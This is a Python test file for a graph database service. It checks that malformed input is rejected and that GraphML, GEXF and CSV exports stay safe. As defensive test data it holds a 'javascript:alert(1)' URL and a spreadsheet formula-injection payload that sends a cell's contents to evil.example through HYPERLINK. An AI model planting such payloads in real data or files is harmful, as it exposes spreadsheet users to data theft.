"""Hostile values: refused on every way in (mutations, import, query filters), and exports
that stay well-formed and safe for spreadsheets whatever a graph holds."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ElementTree
from pathlib import Path
from typing import Any

import httpx
import pytest

from clustergraph.auth.identity import Role
from clustergraph.graph.db import Graph
from clustergraph.graph.location import GraphLocation
from tests.support import codes, run_cli, snapshot

CREATE = "mutation($input: EntityInput!) { createEntity(input: $input) { key name } }"
UPDATE = """
mutation($key: String!, $properties: JSON!) {
  updateEntity(key: $key, properties: $properties, sources: ["source:s1"]) { key }
}"""
CLUSTER = {
    "kind": "CLUSTER",
    "key": "cluster:hostile",
    "properties": {"name": "Hostile"},
    "sources": ["source:s1"],
}


def _cluster(**changes: Any) -> dict[str, Any]:
    properties = {**CLUSTER["properties"], **changes.pop("properties", {})}
    return {"input": {**CLUSTER, **changes, "properties": properties}}


@pytest.mark.parametrize(
    ("variables", "field", "says"),
    [
        # `$` in re.match also matches before a final newline: these were stored.
        (_cluster(key="cluster:x\n"), "key", "U+000A"),
        (_cluster(properties={"country": "PL\n"}), "properties.country", "ISO 3166-1"),
        (_cluster(properties={"url": "http://x.example/\n"}), "properties.url", "U+000A"),
        (_cluster(properties={"url": "javascript:alert(1)"}), "properties.url", "http(s) URL"),
        (_cluster(properties={"name": "Tab\tin a name"}), "properties.name", "U+0009"),
        (_cluster(properties={"name": "Control \x01 character"}), "properties.name", "U+0001"),
        (_cluster(properties={"name": "Vertical \x0b tab"}), "properties.name", "U+000B"),
        (_cluster(properties={"description": "A null \x00 byte"}), "properties.description", "U+0000"),
        (_cluster(properties={"aliases": ["ok", "bell\x07"]}), "properties.aliases", "U+0007"),
        # Past Neo4j's index key limit (about 8 KB) this was an INTERNAL_SERVER_ERROR.
        (_cluster(properties={"name": "N" * 9000}), "properties.name", "the limit is 1000"),
        (_cluster(properties={"aliases": ["a"] * 500}), "properties.aliases", "the limit is 200"),
        (_cluster(key="cluster:" + "k" * 300), "key", "the limit is 200"),
    ],
)
async def test_hostile_values_are_refused_and_name_the_field(
    restore: Graph, send: Any, tokens: dict[Role, str], variables: dict[str, Any], field: str, says: str
) -> None:
    before = await snapshot(restore)
    body = await send(CREATE, variables, tokens[Role.EDITOR])
    assert codes(body) == ["BAD_USER_INPUT"], body
    error = body["errors"][0]
    assert error["extensions"]["field"] == field and says in error["message"], error
    assert len(error["message"]) < 400, "the message must not echo the whole value"
    assert await snapshot(restore) == before


async def test_a_date_with_a_trailing_newline_is_refused_on_update(
    restore: Graph, send: Any, tokens: dict[Role, str]
) -> None:
    body = await send(
        UPDATE, {"key": "project:clusters-cord", "properties": {"startDate": "2020\n"}}, tokens[Role.EDITOR]
    )
    assert (
        codes(body) == ["BAD_USER_INPUT"]
        and body["errors"][0]["extensions"]["field"] == "properties.startDate"
    )


async def test_text_is_stored_in_nfc(restore: Graph, send: Any, tokens: dict[Role, str]) -> None:
    decomposed = "S\u0301la\u0328sk"  # "Śląsk" typed with combining accents
    body = await send(CREATE, _cluster(properties={"name": decomposed}), tokens[Role.EDITOR])
    assert body["data"]["createEntity"]["name"] == "Śląsk"
    found = await send('{ search(query: "Śląsk", kinds: [CLUSTER]) { nodes { key } } }')
    assert {"key": "cluster:hostile"} in found["data"]["search"]["nodes"]


async def test_import_rows_follow_the_same_rules_and_name_the_row(
    restore: Graph, location: GraphLocation, tmp_path: Path
) -> None:
    rows = [
        {
            "type": "node",
            "kind": "Cluster",
            "key": "cluster:import-ok",
            "properties": {"name": "Ok"},
            "sources": ["source:s1"],
        },
        {
            "type": "node",
            "kind": "Cluster",
            "key": "cluster:import-bad",
            "properties": {"name": "Bad", "country": "PL\n"},
            "sources": ["source:s1"],
        },
    ]
    path = tmp_path / "hostile.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    before = await snapshot(restore)
    result = run_cli(location, "import", str(path))
    assert result.returncode != 0
    output = result.stdout + result.stderr
    assert "hostile.jsonl:2:" in output and "country" in output, output
    assert await snapshot(restore) == before


@pytest.mark.parametrize("field", ["search", "crossBorderPartners", "clusters"])
async def test_query_filters_refuse_a_country_with_a_newline(send: Any, field: str) -> None:
    queries = {
        "search": '{ search(query: "klaster", countries: ["PL\\n"]) { totalCount } }',
        "crossBorderPartners": '{ crossBorderPartners(key: "cluster:euroregion-beskidy", countries: ["PL\\n"]) { countryCode } }',
        "clusters": '{ clusters(filter: {countries: ["PL\\n"]}) { totalCount } }',
    }
    body = await send(queries[field])
    assert codes(body) == ["BAD_USER_INPUT"], body


async def _hostile_graph(graph: Graph) -> None:
    """Values a graph loaded before these rules may hold: written past the API, as such data was."""
    await graph.write(
        "MATCH (s:Source {key: 'source:s1'}) "
        "CREATE (n:Entity:Cluster {key: 'cluster:legacy-hostile', name: $name, description: $description, "
        "country: 'PL', sources: ['source:s1']})-[:SOURCED_FROM]->(s)",
        {"name": "Legacy \x01 name \x0b", "description": "null \x00 and \ufffe"},
    )


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
async def test_xml_exports_are_well_formed_whatever_the_graph_holds(
    restore: Graph, http: httpx.AsyncClient, fmt: str
) -> None:
    await _hostile_graph(restore)
    for params in ({}, {"key": "cluster:legacy-hostile"}):
        response = await http.get(f"/export/{fmt}", params=params)
        assert response.status_code == 200
        root = ElementTree.fromstring(response.content)  # raises on XML that is not well-formed
        assert "Legacy" in ElementTree.tostring(root, encoding="unicode")


async def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    restore: Graph, send: Any, http: httpx.AsyncClient, tokens: dict[Role, str]
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    body = await send(
        CREATE,
        _cluster(properties={"name": formula, "aliases": ["+1", "-2", "@SUM(A1)"]}),
        tokens[Role.EDITOR],
    )
    assert body["data"]["createEntity"]["name"] == formula, "the graph keeps the name as written"
    response = await http.get("/export/nodes.csv", params={"key": "cluster:hostile"})
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(response.text))}
    hostile = rows["cluster:hostile"]
    assert hostile["name"] == "'" + formula and hostile["label"] == "'" + formula
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
